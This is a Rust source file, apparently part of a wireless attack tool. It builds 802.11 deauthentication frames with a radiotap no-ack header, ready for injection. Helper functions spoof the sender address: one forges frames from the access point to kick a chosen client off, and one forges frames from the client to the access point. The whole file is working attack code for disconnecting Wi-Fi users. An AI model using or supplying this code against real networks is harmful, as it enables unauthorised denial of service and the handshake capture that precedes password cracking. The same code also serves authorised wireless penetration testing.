use byteorder::{LittleEndian, WriteBytesExt};
use strum::Display;

use crate::address::HardwareAddress;
use crate::frame::{FrameControl, ManagementHeader, ManagementSubtype, SequenceControl};

const RTH_NO_ACK: [u8; 10] = [
    0x00, 0x00, /* radiotap version and padding */
    0x0a, 0x00, /* radiotap header length */
    0x00, 0x80, 0x00, 0x00, /* bitmap: tx flags present */
    0x28, 0x00, /* tx flags: no ack */
];

const DEAUTH_DURATION: u16 = 0x013a;

/// Reason codes (IEEE 802.11 table 9-49) the engine can put in a deauth.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Display)]
#[repr(u16)]
pub enum DeauthenticationReason {
    Unspecified = 1,
    PreviousAuthenticationNoLongerValid = 2,
    DeauthenticatedBecauseSTAIsLeaving = 3,
    DisassociatedDueToInactivity = 4,
    Class2FrameReceivedFromNonauthenticatedSTA = 6,
    Class3FrameReceivedFromNonassociatedSTA = 7,
}

impl DeauthenticationReason {
    pub fn code(&self) -> u16 {
        *self as u16
    }
}

/// Deauthentication frame with a radiotap header, ready to inject.
///
/// `destination` is told that `source` deauthenticated it, inside `bssid`.
pub fn build_deauthentication(
    destination: &HardwareAddress,
    source: &HardwareAddress,
    bssid: &HardwareAddress,
    sequence: u16,
    reason: DeauthenticationReason,
) -> Vec<u8> {
    let mut rth: Vec<u8> = RTH_NO_ACK.to_vec();

    let header = ManagementHeader {
        frame_control: FrameControl::management(ManagementSubtype::Deauthentication),
        duration: DEAUTH_DURATION,
        address_1: *destination,
        address_2: *source,
        address_3: *bssid,
        sequence_control: SequenceControl {
            fragment_number: 0u8,
            sequence_number: sequence,
        },
    };
    rth.extend(header.encode());
    // Writing into a Vec cannot fail.
    let _ = rth.write_u16::<LittleEndian>(reason.code());
    rth
}

/// Spoofed from the base station, kicking `client` off.
pub fn build_deauthentication_fm_ap(
    ap: &HardwareAddress,
    client: &HardwareAddress,
    sequence: u16,
    reason: DeauthenticationReason,
) -> Vec<u8> {
    build_deauthentication(client, ap, ap, sequence, reason)
}

/// Spoofed from `client`, telling the base station it is leaving.
pub fn build_deauthentication_fm_client(
    ap: &HardwareAddress,
    client: &HardwareAddress,
    sequence: u16,
    reason: DeauthenticationReason,
) -> Vec<u8> {
    build_deauthentication(ap, client, ap, sequence, reason)
}
